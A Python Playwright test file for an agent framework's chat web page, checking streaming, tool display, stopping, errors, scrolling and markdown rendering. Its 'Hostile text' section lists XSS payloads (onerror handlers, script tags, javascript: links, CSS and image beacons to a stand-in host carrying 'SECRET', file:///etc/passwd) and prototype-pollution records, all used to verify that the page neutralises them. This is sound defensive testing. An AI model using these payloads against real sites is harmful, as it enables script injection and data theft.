"""The chat page in a real browser: what a person sees and does, and what hostile text cannot do."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import AsyncIterator, Sequence
from typing import Any

import pytest
from agents import ScriptedAgent, Told, speaking
from browsing import ARTIFACTS, Tab, finished, holds, say
from playwright.sync_api import Browser, Page
from serving import Running, serving, until

from millstream import (
    AIMessageChunk,
    BaseChatModel,
    ChatGenerationChunk,
    ChatResult,
    InMemorySaver,
    create_react_agent,
    serve,
    tool,
)
from millstream.spine.events import END, ERROR, START


class Paced(BaseChatModel):
    """Asks for a tool in its first turn and talks in its second, a word every few milliseconds."""

    words: int = 40
    pause: float = 0.02

    @property
    def _llm_type(self) -> str:
        return "paced"

    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> Any:
        return self

    def _generate(self, messages: Any, stop: Any = None, run_manager: Any = None, **kwargs: Any) -> ChatResult:
        raise AssertionError("the page wants tokens")

    async def _astream(
        self, messages: Any, stop: Any = None, run_manager: Any = None, **kwargs: Any
    ) -> AsyncIterator[ChatGenerationChunk]:
        id = f"m{len(messages)}"
        usage = {"input_tokens": 100, "output_tokens": 20, "total_tokens": 120}
        if messages[-1].type == "human" and "tool" in messages[-1].content:
            call = {"type": "tool_call_chunk", "index": 0, "id": f"call-{id}", "name": "weigh"}
            for args in ('{"thing": "a mill', 'stone", "unit": "kg"}'):
                chunk = AIMessageChunk(content="", id=id, tool_call_chunks=[{**call, "args": args}])
                call.update(id=None, name=None)
                yield ChatGenerationChunk(message=chunk)
        else:
            for number in range(self.words):
                await asyncio.sleep(self.pause)
                yield ChatGenerationChunk(message=AIMessageChunk(content=f"word{number} ", id=id))
        yield ChatGenerationChunk(message=AIMessageChunk(content="", id=id, usage_metadata=usage))


@tool
async def weigh(thing: str, unit: str) -> str:
    """Weigh a thing."""
    await asyncio.sleep(0.5)
    return f"{thing} weighs 1,200 {unit}"


def test_a_conversation(browser: Browser) -> None:
    agent = create_react_agent(Paced(), [weigh], checkpointer=InMemorySaver())
    app = serve.app(agent, title="Weighing", model="paced-1", notice="A notice.", suggestions=["use the tool"])
    with serving(app) as server, Tab(browser, server) as page:
        assert page.inner_text("h1") == "Weighing"
        assert page.inner_text("#model") == "paced-1"
        assert page.inner_text("#notice") == "A notice."
        page.click("text=use the tool")
        assert page.inner_text(".bubble") == "use the tool"
        # While the tool runs: its name, its arguments, a spinner, and a way to stop.
        page.wait_for_selector(".tool.running .spinner")
        assert page.inner_text(".tool .name") == "weigh"
        assert "a millstone, kg" in page.inner_text(".tool .args")
        assert page.is_visible("#stop") and not page.is_visible("#send")
        page.wait_for_selector(".tool.success")
        assert page.locator(".spinner").count() == 0
        # Tokens as they come.
        page.wait_for_selector(".answer")
        lengths = []
        while not page.is_visible(".usage"):
            lengths.append(len(page.inner_text(".answer")))
            page.wait_for_timeout(50)
        assert len(set(lengths)) >= 5 and lengths == sorted(lengths)
        assert page.inner_text(".answer").split() == [f"word{i}" for i in range(40)]
        assert page.inner_text(".usage").startswith("200 tokens in · 40 out")
        # The result is folded away, and there.
        assert not page.is_visible("text=a millstone weighs 1,200 kg")
        page.click(".tool summary")
        assert page.is_visible("text=a millstone weighs 1,200 kg")
        # The conversation goes on, and is there after a reload.
        say(page, "and now?")
        holds(page, "document.querySelectorAll('.usage').length === 2")
        assert len(agent_messages(server, page)) == 6
        page.reload()
        page.wait_for_selector(".tool.success")
        assert page.locator(".bubble").all_inner_texts() == ["use the tool", "and now?"]
        assert len(page.locator(".answer").nth(1).inner_text().split()) == 40
        assert page.locator(".usage").all_inner_texts() == ["200 tokens in · 40 out", "100 tokens in · 20 out"]
        page.click("#new")
        assert page.locator(".turn").count() == 0 and page.is_visible("text=use the tool")


def agent_messages(server: Running, page: Page) -> list[Any]:
    path = "threads/' + sessionStorage.getItem('millstream.thread')"
    return list(page.evaluate(f"fetch('{path}).then((answer) => answer.json()).then((thread) => thread.messages)"))


async def talk_forever(told: Told) -> None:
    for number in range(100_000):
        told.say(f"word{number} ")
        await asyncio.sleep(0.01)


@pytest.mark.parametrize("how", ["button", "key"])
def test_stopping(browser: Browser, how: str) -> None:
    agent = ScriptedAgent(talk_forever)
    with serving(serve.app(agent)) as server, Tab(browser, server) as page:
        say(page, "go")
        page.wait_for_selector(".answer")
        page.click("#stop") if how == "button" else page.keyboard.press("Escape")
        page.wait_for_selector("text=Stopped.")
        finished(page)
        until(lambda: agent.cancelled == 1 and not agent.active)
        agent.script = speaking("fine")
        say(page, "again")
        page.wait_for_selector("text=fine")


def test_leaving_the_page_ends_the_run(browser: Browser) -> None:
    agent = ScriptedAgent(talk_forever)
    with serving(serve.app(agent)) as server:
        with Tab(browser, server) as page:
            say(page, "go")
            page.wait_for_selector(".answer")
        until(lambda: agent.cancelled == 1 and not agent.active)
        until(lambda: not server.tasks())


def test_an_error_and_a_second_try(browser: Browser) -> None:
    agent = ScriptedAgent(speaking("x"))

    async def fails(told: Told) -> None:
        told.say("partly")
        agent.script = speaking("it works")
        raise ValueError("secret")

    agent.script = fails
    with serving(serve.app(agent)) as server, Tab(browser, server) as page:
        say(page, "go")
        page.wait_for_selector(".error")
        assert "Something went wrong" in page.inner_text(".error")
        assert "secret" not in page.content()
        assert page.is_visible("text=partly")
        page.click("text=Try again")
        page.wait_for_selector("text=it works")
        first, second = (each["messages"][0] for each in agent.inputs)
        assert first["id"] == second["id"]


def test_a_server_that_is_gone(browser: Browser) -> None:
    with serving(serve.app(ScriptedAgent(speaking("x")))) as server:
        tab = Tab(browser, server)
    with tab as page:
        say(page, "anyone?")
        page.wait_for_selector("text=The server cannot be reached.")
        finished(page)


def test_a_stream_that_is_cut(browser: Browser) -> None:
    """The server dies in the middle of an answer: what came stays, and the person is told."""
    cut = threading.Event()

    async def script(told: Told) -> None:
        told.say("half an answer")
        while not cut.is_set():  # noqa: ASYNC110 - set by another thread
            await asyncio.sleep(0.005)

    with serving(serve.app(ScriptedAgent(script))) as server, Tab(browser, server) as page:
        say(page, "go")
        page.wait_for_selector("text=half an answer")

        def abort() -> None:
            for connection in list(server.server_state.connections):
                connection.transport.abort()  # type: ignore[union-attr]

        server.loop.call_soon_threadsafe(abort)
        page.wait_for_selector("text=The connection was lost")
        assert page.is_visible("text=half an answer")
        cut.set()


def test_keys(browser: Browser) -> None:
    agent = ScriptedAgent(speaking("x"))
    with serving(serve.app(agent)) as server, Tab(browser, server) as page:
        page.keyboard.press("Enter")
        assert page.locator(".turn").count() == 0
        page.keyboard.type("one")
        low = page.locator("#input").bounding_box()
        page.keyboard.press("Shift+Enter")
        page.keyboard.type("two")
        high = page.locator("#input").bounding_box()
        assert low and high and high["height"] > low["height"]
        page.keyboard.press("Enter")
        page.wait_for_selector(".usage")
        assert agent.inputs[0]["messages"][0]["content"] == "one\ntwo"
        assert page.input_value("#input") == ""


def test_a_reader_who_scrolls_up_is_left_alone(browser: Browser) -> None:
    async def script(told: Told) -> None:
        for number in range(100_000):
            told.say(f"Paragraph {number}.\n\n")
            await asyncio.sleep(0.005)

    with serving(serve.app(ScriptedAgent(script))) as server, Tab(browser, server) as page:
        say(page, "go")
        holds(page, "document.querySelector('#scroller').scrollTop > 300")
        page.hover("#scroller")
        page.mouse.wheel(0, -250)
        page.wait_for_selector("#latest:not([hidden])")
        place = page.evaluate("document.querySelector('#scroller').scrollTop")
        before = page.inner_text(".answer").count("Paragraph")
        holds(page, f"document.querySelectorAll('.answer p').length > {before + 20}")
        assert page.evaluate("document.querySelector('#scroller').scrollTop") == place
        page.click("#latest")
        page.wait_for_selector("#latest", state="hidden")
        page.wait_for_timeout(100)
        assert (
            page.evaluate(
                "(({scrollHeight, scrollTop, clientHeight}) => scrollHeight - scrollTop - clientHeight)"
                "(document.querySelector('#scroller'))"
            )
            < 80
        )
        page.keyboard.press("Escape")
        finished(page)


# Hostile text

PAYLOADS = [
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<script>hit()</script>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<style>@import 'http://sink.test/x';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "[click](javascript:hit())",
    "[click](java\tscript:hit())",
    "[click](&#106;avascript:hit())",
    "[click](data:text/html,<script>hit()</script>)",
    "[click](vbscript:hit())",
    "[click](blob:http://x/y)",
    "[click](file:///etc/passwd)",
    '[click](http://sink.test/"onmouseover="hit())',
    "![x](http://sink.test/?d=SECRET)",
    "<img srcset='http://sink.test/a 1x'>",
    "<link rel=prefetch href=http://sink.test/>",
    "http://sink.test/<img src=x onerror=hit()>",
    "```html\n<img src=x onerror=hit()>\n```\n<img src=x onerror=hit()>",
    "```<img src=x onerror=hit()>\nx",
    "| <img src=x onerror=hit()> | b |\n|---|---|\n| <svg onload=hit()> | [x](javascript:hit()) |",
    "# <img src=x onerror=hit()>",
    "> <img src=x onerror=hit()>",
    "1. <img src=x onerror=hit()>\n   - <svg onload=hit()>",
    "**<img src=x onerror=hit()>** *<svg onload=hit()>* `<script>hit()</script>`",
    "{{constructor.constructor('hit()')()}} ${hit()} <%= hit() %>",
    "\u202eevil\u202c \u0000 \ufeff",
    "</div></main><script>hit()</script><div>",
]

ALLOWED = {"DIV", "P", "SPAN", "A", "PRE", "CODE", "STRONG", "EM", "UL", "OL", "LI", "H3", "H4", "H5", "H6", "HR"} | {
    *("BLOCKQUOTE", "TABLE", "TR", "TD", "TH", "DETAILS", "SUMMARY", "BUTTON", "I")
}


def check_tree(page: Page) -> None:
    tags = set(page.evaluate("[...document.querySelectorAll('#log *')].map((node) => node.tagName)"))
    assert tags <= ALLOWED, tags - ALLOWED
    names = set(page.evaluate("[...document.querySelectorAll('#log *')].flatMap((node) => node.getAttributeNames())"))
    assert not [name for name in names if name.startswith("on") or name in ("style", "src", "srcset", "srcdoc")]
    for link in page.evaluate("[...document.querySelectorAll('#log a')].map((a) => [a.protocol, a.rel, a.target])"):
        assert link[0] in ("http:", "https:", "mailto:")
        assert link[1:] == ["noopener noreferrer nofollow", "_blank"]


def test_hostile_text_is_text_everywhere(browser: Browser) -> None:
    """In what the model says (cut at every character), names, arguments, results and errors of tools."""

    async def script(told: Told) -> None:
        for number, payload in enumerate(PAYLOADS):
            for character in payload + "\n\n":
                told.say(character, f"m{number % 3}")
            run = told.scope.begin(payload, "tool", {payload: payload, "nested": [payload]})
            assert run.mask & START
            run.emit(END, payload if number % 2 else {payload: payload}) if number % 3 else run.emit(
                ERROR, ValueError()
            )
            await asyncio.sleep(0)
        told.end(usage_metadata={"input_tokens": 1, "output_tokens": 1, "total_tokens": 2})

    app = serve.app(
        ScriptedAgent(script), title=PAYLOADS[0], model=PAYLOADS[1], notice=PAYLOADS[2], suggestions=PAYLOADS
    )
    with serving(app) as server, Tab(browser, server) as page:
        say(page, "\n".join(PAYLOADS))
        page.wait_for_selector(".usage")
        for summary in page.locator(".tool summary").all():
            summary.dispatch_event("click")
        page.wait_for_timeout(200)
        check_tree(page)
        shown = page.inner_text("#log")
        assert shown.count("<img src=x onerror=hit()>") > 10
        assert page.locator(".suggestions button").count() == len(PAYLOADS)


def test_the_watch_would_see_a_script(browser: Browser) -> None:
    """The control: the same text as markup is noticed, stopped by the policy, and no allowed tree."""
    with serving(serve.app(ScriptedAgent(speaking("x")))) as server:
        tab = Tab(browser, server)
        tab.page.evaluate("document.querySelector('#log').innerHTML = '<img src=http://sink.test/x onerror=hit()>'")
        holds(tab.page, "window.hits.length > 0")
        assert all(hit.startswith("csp") for hit in tab.page.evaluate("window.hits"))
        with pytest.raises(AssertionError):
            check_tree(tab.page)
        tab.context.close()


def test_records_that_no_page_knows_are_ignored(browser: Browser) -> None:
    """A hostile or newer server: unknown types, odd keys, wrong types, garbage between."""
    lines = [
        b'{"type":"start","seq":1,"ts":0,"run_id":"r","thread_id":"t","agent":"a","model":"<img src=x onerror=hit()>"}',
        b"",
        b"not json",
        b"null",
        b"7",
        b'{"type":"__proto__"}',
        b'{"type":"constructor"}',
        b'{"type":"html","content":"<img src=x onerror=hit()>"}',
        b'{"type":"state","patch":[{"op":"add","path":"/__proto__/x","value":1}]}',
        b'{"type":"token","message_id":"m","content":"fine","extra":{"html":"<img src=x onerror=hit()>"}}',
        b'{"type":"tool_call","id":"c","name":{"a":1},"args":"<img src=x onerror=hit()>"}',
        b'{"type":"tool_result","id":"other","name":7,"result":{"__proto__":{"x":1}},"status":"<img>"}',
        b'{"type":"usage","input_tokens":"<img src=x onerror=hit()>","output_tokens":null,"total_tokens":3}',
        b'{"type":"error","message":{"toString":"x"},"code":[],"error_id":"<img src=x onerror=hit()>"}',
    ]

    async def hostile(scope: Any, receive: Any, send: Any) -> None:
        await send(
            {"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"application/x-ndjson")]}
        )
        for line in lines:
            await send({"type": "http.response.body", "body": line + b"\n", "more_body": True})
        await send({"type": "http.response.body", "body": b""})

    inner = serve.app(ScriptedAgent(speaking("x")))

    async def app(scope: Any, receive: Any, send: Any) -> None:
        takes = scope["type"] == "http" and scope["method"] == "POST"
        await (hostile if takes else inner)(scope, receive, send)

    with serving(app) as server, Tab(browser, server) as page:
        say(page, "go")
        page.wait_for_selector(".error")
        check_tree(page)
        assert page.inner_text(".answer") == "fine"
        finished(page)


SAMPLES = [
    "# Title\n\nText with **bold**, *italic*, `code` and [a link](https://example.org/x).\n\n- one\n- two\n  - deep\n- three\n\n"
    "1. first\n2. second\n\n> quoted\n> more\n\n---\n\n| a | b |\n|---|---|\n| 1 | `2` |\n\n```python\nx = 1\n\n# no title\n```\n\nEnd",
    "```\nunclosed\ncode",
    "a\r\nb\r\n\r\nc",
    "* not **closed *and `this\n\n~~~\ncode\n~~~",
    "2 * 3 * 4 and snake_case_name and __init__",
    "word " * 4_000,
    "- item\n" * 3_000,
    "[" * 20_000,
    "**`_[x](" * 3_000,
]

COMPARE = """
async ([samples, seed]) => {
  const { Markdown, element } = await import("/ui/markdown.js");
  const rendered = (pieces) => {
    const root = element("div");
    const markdown = new Markdown(root);
    for (const piece of pieces) markdown.append(piece);
    markdown.end();
    root.normalize();
    return root.innerHTML;
  };
  let state = seed;
  const random = (below) => (state = (state * 48271) % 2147483647) % below;
  const different = [];
  for (const sample of samples) {
    const whole = rendered([sample]);
    const cuts = sample.length < 1000 ? [1] : [];
    for (const most of [...cuts, 7, 400]) {
      const pieces = [];
      for (let at = 0; at < sample.length; ) {
        const size = most === 1 ? 1 : 1 + random(sample.length > 2000 ? most * 10 : most);
        pieces.push(sample.slice(at, at + size));
        at += size;
      }
      if (rendered(pieces) !== whole) different.push([sample.slice(0, 30), most]);
    }
  }
  return different;
}
"""


def test_markdown_comes_out_the_same_however_it_is_cut(browser: Browser) -> None:
    with serving(serve.app(ScriptedAgent(speaking("x")))) as server, Tab(browser, server) as page:
        assert page.evaluate(COMPARE, [SAMPLES + PAYLOADS, 7]) == []


def test_markdown_takes_time_in_proportion(browser: Browser) -> None:
    script = """
    async ([text, size]) => {
      const { Markdown, element } = await import("/ui/markdown.js");
      const timed = (length) => {
        const markdown = new Markdown(element("div"));
        const start = performance.now();
        const whole = text.repeat(length / text.length);
        for (let at = 0; at < whole.length; at += 4096) markdown.append(whole.slice(at, at + 4096));
        markdown.end();
        return performance.now() - start;
      };
      timed(size / 4);
      return [Math.min(timed(size), timed(size)), Math.min(timed(4 * size), timed(4 * size))];
    }
    """
    with serving(serve.app(ScriptedAgent(speaking("x")))) as server, Tab(browser, server) as page:
        for text in ("[", "*", "`", "[x](", "**_`", "word ", "- a\n", "|"):
            once, four_times = page.evaluate(script, [text, 32 * 1024])
            # Far from sixteen times; milliseconds are not the point here.
            assert four_times < 9 * once + 100, (text, once, four_times)


# What it looks like

LOOKS = [("light", 1200, 800), ("dark", 1200, 800), ("light", 390, 780), ("dark", 390, 780)]


@pytest.mark.parametrize(("scheme", "width", "height"), LOOKS)
def test_pictures_for_people(browser: Browser, scheme: Any, width: int, height: int) -> None:
    agent = create_react_agent(Paced(words=12), [weigh], checkpointer=InMemorySaver())
    notice = "No language model is running. Answers come from the built-in offline model, which is not an LLM."
    app = serve.app(agent, title="Millstream demo", model="offline rules", notice=notice, suggestions=["Weigh it"])
    size = {"width": width, "height": height}
    with serving(app) as server, Tab(browser, server, color_scheme=scheme, viewport=size) as page:
        say(page, "Please use the tool to weigh the millstone of the old mill by the river.")
        page.wait_for_selector(".usage")
        page.click(".tool summary")
        say(page, "With the tool once more, please.")
        page.wait_for_selector(".tool.running")
        page.wait_for_timeout(60)
        ARTIFACTS.mkdir(exist_ok=True)
        (ARTIFACTS / f"page-{scheme}-{width}.png").write_bytes(page.screenshot())
        # Nothing is wider than the window.
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        holds(page, "document.querySelectorAll('.usage').length === 2")
